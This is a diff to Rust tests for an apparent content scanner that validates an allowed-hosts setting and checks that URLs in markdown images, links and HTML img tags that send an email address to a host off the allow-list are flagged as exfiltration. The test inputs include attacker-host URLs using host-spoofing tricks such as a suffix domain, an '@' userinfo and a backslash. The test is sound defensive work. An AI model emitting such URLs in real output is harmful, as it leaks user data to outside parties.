@@ -155,6 +155,12 @@ fn each_problem_of_a_rule_names_its_place() {
             "detect.canaries[0].name: `The Prompt` cannot be used as a name",
         ),
         (
+            "an address for a host",
+            vec![("/detect", json!({ "allow_hosts": ["cdn.example.com", "https://cdn.example.com/"] }))],
+            "detect.allow_hosts[1]: `https://cdn.example.com/` is no host; write a host without scheme, port and path: \
+             `cdn.example.com`, `*.example.com`",
+        ),
+        (
             "a level of nothing",
             vec![("/classification", json!({ "levels": { "pii.contct": "public" } }))],
             "classification.levels.pii.contct: unknown class or rule `pii.contct`; did you mean `pii.contact`?",
@@ -255,4 +261,27 @@ fn thirty_thousand_names_configure() {
     let edits =
         detect(&[rule(json!({ "words": names, "examples": { "match": ["to customer77 name539."] } }))], &[]);
     guarded(&edits);
+}
+
+#[test]
+fn addresses_of_an_allowed_host_may_carry_data() {
+    let guarded = guarded(&[("/detect", json!({ "allow_hosts": ["cdn.example.com", "*.corp.example"] }))]);
+    let found = |url: &str| {
+        let catalogue = guarded.response.catalogue();
+        let text = format!("![a]({url}) [b]({url}) <img src=\"{url}\">");
+        let found = scan_all(catalogue, guarded.response.enabled(), text.as_bytes());
+        found.iter().any(|one| catalogue.rule(one.rule).unwrap().id.starts_with("exfiltration."))
+    };
+    for (url, expected) in [
+        ("https://cdn.example.com/p.png?to=bob@mail.example", false),
+        ("https://CDN.example.com:8443/p.png?to=bob@mail.example", false),
+        ("//img.corp.example/p.png?to=bob@mail.example", false),
+        ("https://corp.example/p.png?to=bob@mail.example", true),
+        ("https://cdn.example.com.evil.example/p.png?to=bob@mail.example", true),
+        ("https://cdn.example.com@evil.example/p.png?to=bob@mail.example", true),
+        ("https://evil.example/cdn.example.com?to=bob@mail.example", true),
+        ("https://evil.example\\@cdn.example.com/?to=bob@mail.example", true),
+    ] {
+        assert_eq!(found(url), expected, "{url}");
+    }
 }
